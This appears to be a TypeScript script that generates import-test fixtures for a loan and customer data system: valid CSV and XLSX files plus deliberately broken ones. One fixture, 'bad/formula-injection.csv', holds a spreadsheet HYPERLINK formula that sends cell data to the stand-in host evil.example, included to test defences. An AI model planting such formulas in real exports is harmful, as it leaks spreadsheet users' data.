/**
 * Writes the real-shaped import fixtures under __fixtures__/ (run: npx tsx scripts/generate-fixtures.ts).
 * The CSV files are byte-identical every run; the XLSX may differ only in its zip timestamps.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import ExcelJS from "exceljs";
import iconv from "iconv-lite";

const root = join(dirname(fileURLToPath(import.meta.url)), "..", "__fixtures__");
mkdirSync(join(root, "bad"), { recursive: true });

const write = (name: string, bytes: Buffer | string) => writeFileSync(join(root, name), bytes);
const crlf = (lines: string[]) => `${lines.join("\r\n")}\r\n`;

// CRM customers: UTF-8 with BOM, English headers, as exported from a web CRM.
write(
  "customers-utf8-bom.csv",
  "\uFEFF" +
    crlf([
      "customer_id,name,industry,region,size,credit_rating,officer,debt_ratio,current_ratio,roa,revenue,default_count",
      'C001,杭州华力机械有限公司,制造业,浙江,small,AA,E1001,62.5,1.35,4.2,"58,000,000.00",0',
      "C002,宁波港城物流有限公司,交通运输,浙江,medium,A,E1001,55.1,1.10,3.1,120000000,0",
      "C003,温州鹿城鞋业有限公司,制造业,浙江,micro,BBB,E1002,71.0,0.95,1.5,8600000.50,1",
      'C004,"绍兴轻纺城贸易有限公司",批发零售,浙江,small,,E1002,,,,,0',
      "C005,嘉兴新能源科技股份有限公司,电力热力,浙江,large,AAA,E1003,48.2,1.80,6.3,2350000000,0",
    ]),
);

// Core-system loan detail: GBK, Chinese headers, amounts in 万元, thousands separators, slashed dates, rates with %.
const loanHeader =
  "借据号,客户编号,产品,金额(万元),执行利率,期限(月),发放日期,到期日,担保方式,五级分类,考核贷款年日均(元),累计天数";
const gbkLines = [
  loanHeader,
  'L2015001,C001,流动资金贷款,500,4.35%,12,2015/1/31,2016/1/31,保证,正常,"4,200,000.00",360',
  'L2015002,C001,固定资产贷款,1200.5,4.90%,60,2015/3/15,2020/3/15,抵押,正常,"11,850,000.00",360',
  'L2015003,C002,流动资金贷款,800,5.00%,12,20150610,20160610,信用,关注,"7,600,000.00",205',
  'L2015004,C003,小微企业贷款,50,6.50%,6,2015-08-01,2016-01-31,质押,次级,"480,000.00",150',
  'L2015005,C005,项目贷款,3000,4.75%,120,2015/10/8,2025/10/8,抵押,正常,"29,000,000.00",85',
];
write("loans-gbk.csv", iconv.encode(crlf(gbkLines), "gbk"));

async function writeLoansXlsx(): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  workbook.created = new Date(Date.UTC(2025, 0, 1));
  workbook.modified = workbook.created;
  const cover = workbook.addWorksheet("说明");
  cover.addRow(["本文件由信贷管理系统导出"]);
  const sheet = workbook.addWorksheet("贷款明细");
  sheet.addRow([
    "借据编号",
    "客户号",
    "业务品种",
    "贷款金额(元)",
    "执行年利率",
    "贷款期限",
    "起始日期",
    "到期日期",
    "主要担保方式",
    "风险分类",
    "贷款年日均",
    "计息天数",
  ]);
  const rows: [string, string, string, number, number, number, Date, Date, string, string, number, number][] = [
    [
      "L2016001",
      "C002",
      "流动资金贷款",
      3_000_000,
      0.0435,
      12,
      new Date(Date.UTC(2016, 0, 15)),
      new Date(Date.UTC(2017, 0, 15)),
      "guarantee",
      "normal",
      2_950_000.5,
      351,
    ],
    [
      "L2016002",
      "C004",
      "贸易融资",
      1_500_000,
      0.0522,
      6,
      new Date(Date.UTC(2016, 1, 29)),
      new Date(Date.UTC(2016, 7, 29)),
      "pledge",
      "special mention",
      740_000,
      182,
    ],
    [
      "L2016003",
      "C005",
      "固定资产贷款",
      20_000_000,
      0.049,
      36,
      new Date(Date.UTC(2016, 5, 30)),
      new Date(Date.UTC(2019, 5, 30)),
      "collateral",
      "normal",
      10_100_000,
      184,
    ],
  ];
  for (const row of rows) sheet.addRow(row);
  sheet.getColumn(5).numFmt = "0.00%";
  sheet.getColumn(7).numFmt = "yyyy-mm-dd";
  sheet.getColumn(8).numFmt = "yyyy-mm-dd";
  sheet.getColumn(4).numFmt = "#,##0.00";
  sheet.getColumn(11).numFmt = "#,##0.00";
  write("loans-excel-dates.xlsx", Buffer.from(await workbook.xlsx.writeBuffer()));
}

// The bad corpus: each file has exactly one named problem.
const englishLoanHeader =
  "loan_id,customer_id,product,amount,rate,term_months,start_date,maturity_date,guarantee,classification,avg_daily_balance,days";
const goodLoan = (id: string, customer = "C001") =>
  `${id},${customer},working capital,1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350`;
write("bad/empty.csv", "");
write("bad/header-only.csv", crlf([englishLoanHeader]));
write("bad/wrong-delimiter.csv", crlf([englishLoanHeader.replaceAll(",", " "), goodLoan("L1").replaceAll(",", " ")]));
write(
  "bad/truncated-last-line.csv",
  `${crlf([englishLoanHeader, goodLoan("L1"), goodLoan("L2")])}L3,C001,working capital,1000000.00,4.3`,
);
let seed = 20250101;
const junk = Buffer.alloc(4096);
for (let i = 0; i < junk.length; i++) {
  seed = (seed * 1103515245 + 12345) % 2 ** 31;
  junk[i] = seed >>> 23;
}
write("bad/binary-junk.csv", junk);
write("bad/duplicate-keys.csv", crlf([englishLoanHeader, goodLoan("L1"), goodLoan("L2"), goodLoan("L1")]));
write("bad/unknown-customer.csv", crlf([englishLoanHeader, goodLoan("L1"), goodLoan("L2", "C999")]));
write(
  "bad/rate-basis-points.csv",
  crlf([
    englishLoanHeader,
    goodLoan("L1"),
    "L2,C001,working capital,1000000.00,4350,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350",
  ]),
);
write(
  "bad/negative-amount.csv",
  crlf([
    englishLoanHeader,
    goodLoan("L1"),
    "L2,C001,working capital,-1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350",
  ]),
);
write(
  "bad/invalid-date.csv",
  crlf([
    englishLoanHeader,
    goodLoan("L1"),
    "L2,C001,working capital,1000000.00,4.35,12,2015-02-30,2026-01-15,guarantee,normal,900000.00,350",
  ]),
);
write(
  "bad/formula-injection.csv",
  crlf([
    englishLoanHeader,
    goodLoan("L1"),
    'L2,C001,"=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",1000000.00,4.35,12,2025-01-15,2026-01-15,guarantee,normal,900000.00,350',
  ]),
);

await writeLoansXlsx();
